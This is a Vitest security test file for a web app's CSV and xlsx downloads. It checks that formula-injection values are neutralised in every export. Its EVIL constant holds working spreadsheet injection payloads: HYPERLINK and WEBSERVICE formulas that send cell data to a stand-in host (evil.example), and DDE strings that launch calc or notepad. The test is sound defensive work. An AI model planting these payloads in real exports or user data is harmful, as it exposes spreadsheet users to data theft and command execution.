import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPlan } from '../../src/services/plan.service.js';
import type { RouteInfo } from '../../src/http/router.js';
import { decodeCsvBytes, parseCsv } from '../../src/lib/csv.js';
import { readXlsx } from '../../src/lib/xlsx.js';
import { personRepository } from '../../src/db/repositories/person.repository.js';
import { hashPassword } from '../../src/lib/crypto.js';
import { apply } from '../../src/services/application.service.js';
import { markAttendance } from '../../src/services/completion.service.js';
import { addSession, createProgramme } from '../../src/services/offering.service.js';
import { acceptOffer, addSite, createOffer, createPartner, invitePartnerMember } from '../../src/services/partner.service.js';
import { getPerson } from '../../src/services/person.service.js';
import { createSurvey, respond } from '../../src/services/survey.service.js';
import { createUnit } from '../../src/services/unit.service.js';
import { createTestDb, type TestDb, testContext } from '../support/db.js';
import { Agent, appFor, makeUser, PASSWORD } from '../support/http.js';
import { makeOffering } from '../support/offerings.js';
import { toCurrentUser } from '../../src/services/context.js';

/**
 * Formula injection (CSV injection): names and texts that people type can start with = + - @ (or a
 * tab or CR). Every CSV and xlsx download of the app, found from the route table, is fetched with such
 * values in the data and read back: in CSV every such cell carries a leading apostrophe; in xlsx every
 * cell is a value (string or number), never a formula, and the sheet XML holds no <f> element.
 */
const EVIL = {
  person: '=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
  unit: '+県民活動課（試験）',
  partner: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  contact: '-2+3+cmd|\' /C notepad\'!A0',
  offering: '=1+1 協働推進セミナー',
  session: '\t=cmd|\'/c calc\'!A0',
  lecturers: '\r=2+5',
  answer: '=WEBSERVICE("http://evil.example/?"&A1)',
};
const FORMULA_START = /^[=+\-@\t\r]/;
/** The values that start a cell of some download (a session's title only follows its offering's title). */
const STARTING = Object.keys(EVIL).filter((k) => k !== 'session').sort();

let tdb: TestDb;
let ctx: ReturnType<typeof testContext>;
let app: ReturnType<typeof appFor>['app'];
let routes: RouteInfo[];
let admin: Agent;
let host: Agent;
const ids: Record<string, number> = {};

beforeAll(async () => {
  tdb = await createTestDb();
  ctx = testContext(tdb, { config: { sessionIdleMinutes: 600 } }); // 2026-11-24T01:00Z
  ({ app, routes } = appFor(ctx));
  const dept = await createUnit(ctx, null, { kind: 'department', name: '総務部', kana: 'ソウムブ' });
  const unit = await createUnit(ctx, null, { kind: 'division', name: EVIL.unit, kana: 'ケンミンカツドウカ', parentId: dept.id });
  ids.unit = unit.id;
  const a = await makeUser(ctx, ['admin', 'staff'], { email: 'formula-admin@pref.example.jp', name: EVIL.person, kana: 'イコール ハイパーリンク', unitId: unit.id });
  ids.person = a.id;
  const me = toCurrentUser((await getPerson(ctx, a.id))!);

  // A plan whose title looks like a formula, for the yearly progress report's xlsx (issue 21).
  await createPlan(ctx, null, { title: EVIL.offering, firstFiscalYear: '2026', lastFiscalYear: '2027' });

  // A partner organisation and its member, hosting a field session of the offering.
  const partner = await createPartner(ctx, null, { name: EVIL.partner, kana: 'アットサム', type: 'npo', contactName: EVIL.contact, description: EVIL.answer });
  const m = await invitePartnerMember(ctx, null, partner.id, { name: '受入 担当', kana: 'ウケイレ タントウ', email: 'host@evil-npo.example.jp' });
  await personRepository.update(ctx.db, m.id, { password_hash: await hashPassword(PASSWORD) });
  const member = toCurrentUser((await getPerson(ctx, m.id))!);
  const site = await addSite(ctx, member, partner.id, { name: EVIL.session.trim(), address: '大津市', capacity: '10' });

  // An offering, held today, with the admin as participant (history, certificates, applications).
  const programme = await createProgramme(ctx, null, { name: '協働推進セミナー', kind: 'seminar' });
  const o = await makeOffering(ctx, { programmeId: programme.id, title: EVIL.offering, capacity: 10, seats: { partner: 2 } });
  ids.offering = o.id;
  const s = await addSession(ctx, null, o.id, { title: EVIL.session, format: 'lecture', lecturers: EVIL.lecturers, startsAt: '2026-11-24T08:30:00+09:00', endsAt: '2026-11-24T09:30:00+09:00' });
  await addSession(ctx, null, o.id, { title: EVIL.session, format: 'lecture', lecturers: EVIL.lecturers, startsAt: '2027-01-15T13:30:00+09:00', endsAt: '2027-01-15T15:00:00+09:00' });
  await apply(ctx, me, o.id, {});
  await markAttendance(ctx, null, s.id, [{ personId: a.id, status: 'present' }]);
  const offer = await createOffer(ctx, member, { siteId: String(site.id), theme: EVIL.answer, candidateStarts: '2027-01-27T13:30', durationMinutes: '120', capacity: '5' });
  ids.session = (await acceptOffer(ctx, null, offer.id, { offeringId: String(o.id), start: '2027-01-27T04:30:00.000Z' })).session.id;

  // A named self-assessment with a free-text answer.
  const template = (await ctx.db.selectFrom('survey_templates').select('id').where('code', '=', 'competency').executeTakeFirstOrThrow()).id;
  const survey = await createSurvey(ctx, null, { templateId: template, kind: 'pre', offeringId: o.id, opensAt: '2026-11-20T00:00:00Z', closesAt: '2026-12-20T00:00:00Z' });
  ids.survey = survey.id;
  await respond(ctx, me, survey.id, { answers: { competency: { roles: 2, sites: 2, consensus: 3, facilitation: 2, evaluation: 1 }, goal: EVIL.answer } });

  admin = new Agent(app);
  await admin.login(a.email);
  host = new Agent(app);
  await host.login(member.email);
}, 120_000);
afterAll(() => tdb.close());

/**
 * Downloads made by other helpers' features (consultations, projects, the coordinator's desk) are
 * covered by tests/http/consultations.test.ts.
 */
const ELSEWHERE = ['/consultations', '/projects', '/desk', '/my/cases', '/coordinator'];
const elsewhere = (p: string) => ELSEWHERE.some((x) => p === x || p.startsWith(`${x}/`) || p.startsWith(`${x}.`));

/** Which object each path parameter of a download points to. A new download with an id fails until added. */
function concrete(path: string): string {
  const id = path.startsWith('/admin/offerings/')
    ? ids.offering
    : path.startsWith('/admin/people/')
      ? ids.person
      : path.startsWith('/admin/units/')
        ? ids.unit
        : path.startsWith('/admin/surveys/')
          ? ids.survey
          : path.startsWith('/partner/sessions/')
            ? ids.session
            : path.startsWith('/admin/plan-items/')
              ? -1
              : null;
  if (/:\w+/.test(path) && id === null) throw new Error(`no object for the download ${path}: add it to concrete()`);
  return path.replace(/:\w+/g, String(id));
}

const downloads = () => routes.filter((r) => r.method === 'GET' && /\.(csv|xlsx)$/.test(r.path) && !elsewhere(r.path) && !r.path.startsWith('/admin/plan-items/'));

async function fetchAll(ext: 'csv' | 'xlsx') {
  const out: { path: string; bytes: Uint8Array }[] = [];
  for (const r of downloads().filter((x) => x.path.endsWith(`.${ext}`))) {
    const agent = r.path.startsWith('/partner/') ? host : admin;
    const url = concrete(r.path);
    for (const u of ext === 'csv' ? [url, `${url}${url.includes('?') ? '&' : '?'}encoding=shift_jis`] : [url]) {
      const res = await agent.get(u);
      expect(res.status, `${u}: ${res.status}`).toBe(200);
      out.push({ path: u, bytes: new Uint8Array(await res.arrayBuffer()) });
    }
  }
  return out;
}

describe('formula injection in every download', () => {
  it('finds the downloads in the route table', () => {
    const paths = downloads().map((r) => r.path);
    expect(paths).toEqual(expect.arrayContaining(['/admin/people.csv', '/admin/partners.xlsx', '/opendata/events.csv', '/admin/surveys/:id/comments.csv', '/partner/sessions/:id/roster.csv', '/admin/reports/implementation.xlsx']));
  });

  it('CSV (UTF-8 with BOM and Shift_JIS): every cell starting with = + - @ TAB CR is neutralised with an apostrophe', async () => {
    const seen = new Set<string>();
    for (const { path, bytes } of await fetchAll('csv')) {
      const { header, rows } = parseCsv(decodeCsvBytes(bytes).text);
      const cells = [...header, ...rows.flatMap((r) => Object.values(r.cells))];
      for (const cell of cells) {
        expect(cell, `${path}: a cell starts a formula`).not.toMatch(FORMULA_START);
        for (const [k, v] of Object.entries(EVIL)) if (cell === `'${v}` || cell === `'${v.trim()}`) seen.add(k);
      }
    }
    // The bad values did reach the downloads (the test would prove nothing otherwise).
    expect([...seen].filter((k) => k !== 'session').sort()).toEqual(STARTING);
  });

  it('xlsx: every cell is a value, never a formula, and formula-looking text stays exactly as typed', async () => {
    const seen = new Set<string>();
    const dir = mkdtempSync(join(tmpdir(), 'kyodo-xlsx-'));
    try {
      for (const { path, bytes } of await fetchAll('xlsx')) {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as unknown as ArrayBuffer);
        for (const ws of wb.worksheets)
          ws.eachRow((row) =>
            row.eachCell((cell) => {
              expect(cell.type, `${path} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
              expect(cell.formula, `${path} ${cell.address}`).toBeFalsy();
              if (typeof cell.value === 'string') for (const [k, v] of Object.entries(EVIL)) if (cell.value === v || cell.value === v.trim()) seen.add(k);
            }),
          );
        // The sheet XML itself: no <f> (formula) element anywhere.
        const file = join(dir, 'x.xlsx');
        writeFileSync(file, bytes);
        const xml = execFileSync('unzip', ['-p', file, 'xl/worksheets/*.xml'], { maxBuffer: 64 * 1024 * 1024 }).toString('utf8');
        expect(xml, path).not.toMatch(/<f[\s>]/);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    expect([...seen].filter((k) => k !== 'session').sort()).toEqual(STARTING);
  });

  it('the plan-item sheet xlsx holds no formula either', async () => {
    // A plan item whose texts look like formulas; the sheet is laid out by its own writer (toLaidOutXlsx).
    const plan = await ctx.db.insertInto('plans').values({ title: '試験計画', first_fiscal_year: 2023, last_fiscal_year: 2026, created_at: ctx.now(), updated_at: ctx.now() }).returning('id').executeTakeFirstOrThrow();
    const res = await admin.post(`/admin/plans/${plan.id}/items`, { number: '(1)', title: EVIL.person, owningUnits: EVIL.unit, situation: EVIL.answer, approach: EVIL.contact, direction: EVIL.lecturers.trim() });
    expect(res.status).toBe(303);
    const itemId = Number(res.headers.get('location')!.match(/plan-items\/(\d+)/)![1]);
    const bytes = new Uint8Array(await (await admin.get(`/admin/plan-items/${itemId}/sheet.xlsx`)).arrayBuffer());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const values: string[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') values.push(cell.value);
      }),
    );
    expect(values).toContain(EVIL.answer);
  });
});

const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));

/**
 * LibreOffice opens the report downloads as a user's spreadsheet would: the xlsx files read the same
 * as with exceljs, and the CSV files (UTF-8 with BOM and Shift_JIS) come in as text, the formula-looking
 * cells staying text (a spreadsheet that evaluated them would hold a formula or its result).
 */
describe.runIf(soffice)('report downloads in LibreOffice', () => {
  it('xlsx reads the same as with exceljs; CSV in both encodings stays text with no formula', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kyodo-lo-'));
    try {
      const files: Record<string, string> = {
        'implementation.xlsx': '/admin/reports/implementation.xlsx?fy=2026',
        'coverage.xlsx': '/admin/reports/coverage.xlsx',
        'kpis.xlsx': '/admin/reports/kpis.xlsx?fy=2026',
        'impl-utf8.csv': '/admin/reports/implementation.csv?fy=2026',
        'impl-sjis.csv': '/admin/reports/implementation.csv?fy=2026&encoding=shift_jis',
      };
      for (const [name, url] of Object.entries(files)) writeFileSync(join(dir, name), new Uint8Array(await (await admin.get(url)).arrayBuffer()));
      const lo = (args: string[]) => execFileSync(soffice!, ['--headless', '--norestore', `-env:UserInstallation=file://${dir}/profile`, ...args, '--outdir', join(dir, 'out')], { stdio: 'ignore', timeout: 120_000 });
      // xlsx → CSV (UTF-8), one run for the three workbooks; cell values as stored ("as shown" off: a
      // percentage stored as 100 with format 0.0 is compared as 100; its format is checked in reports.test.ts).
      lo(['--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false', ...['implementation', 'coverage', 'kpis'].map((n) => join(dir, `${n}.xlsx`))]);
      for (const n of ['implementation', 'coverage', 'kpis']) {
        const [sheet] = await readXlsx(readFileSync(join(dir, `${n}.xlsx`)));
        const viaLo = parseCsv(readFileSync(join(dir, 'out', `${n}.csv`), 'utf8'));
        expect(viaLo.header, n).toEqual(sheet.header);
        expect(viaLo.rows.map((r) => sheet.header.map((h) => r.cells[h])), n).toEqual(sheet.rows.map((r) => sheet.header.map((h) => r[h])));
      }
      const [impl] = await readXlsx(readFileSync(join(dir, 'implementation.xlsx')));
      expect(impl.rows.some((r) => r['テーマ'].startsWith(EVIL.offering))).toBe(true);
      // CSV → xlsx, read as UTF-8 and as Shift_JIS (charset 76 and 64).
      for (const [name, charset] of [
        ['impl-utf8', 76],
        ['impl-sjis', 64],
      ] as const) {
        lo([`--infilter=CSV:44,34,${charset},1`, '--convert-to', 'xlsx', join(dir, `${name}.csv`)]);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(readFileSync(join(dir, 'out', `${name}.xlsx`)) as unknown as ArrayBuffer);
        const texts: string[] = [];
        wb.worksheets[0].eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${name} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula, `${name} ${cell.address}`).toBeFalsy();
            texts.push(String(cell.text));
          }),
        );
        expect(texts, name).toContain('テーマ');
        expect(texts.some((x) => x.includes('協働推進セミナー') && x.includes('=1+1')), name).toBe(true);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 240_000);
});
